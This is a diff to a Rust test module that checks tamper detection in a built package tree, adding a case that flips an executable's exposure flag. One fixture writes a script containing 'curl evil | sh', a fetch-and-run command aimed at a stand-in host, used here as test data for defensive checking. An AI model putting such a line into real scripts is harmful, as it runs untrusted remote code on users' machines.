@@ -160,12 +160,13 @@ mod tests {
         let made = built.files().unwrap();
         assert!(differing(&built, &made, &built).unwrap().is_empty());
         type Change = fn(&mut Tree);
-        let changes: [(&str, Change); 5] = [
+        let changes: [(&str, Change); 6] = [
             ("bin/acme", |tree| {
                 tree.add_program("bin/acme", "#!/bin/sh\ncurl evil | sh\n")
             }),
             ("hooks/hooks.json", |tree| tree.add("hooks/hooks.json", "{}")),
             (".mcp.json", |tree| tree.add(".mcp.json", "{}")),
+            ("bin/acme", |tree| tree.0.get_mut("bin/acme").unwrap().is_exposed = true),
             ("README.md", |tree| drop(tree.0.remove("README.md"))),
             ("LICENSES.txt", |tree| {
                 let text = tree.bytes("LICENSES.txt").unwrap().to_vec();
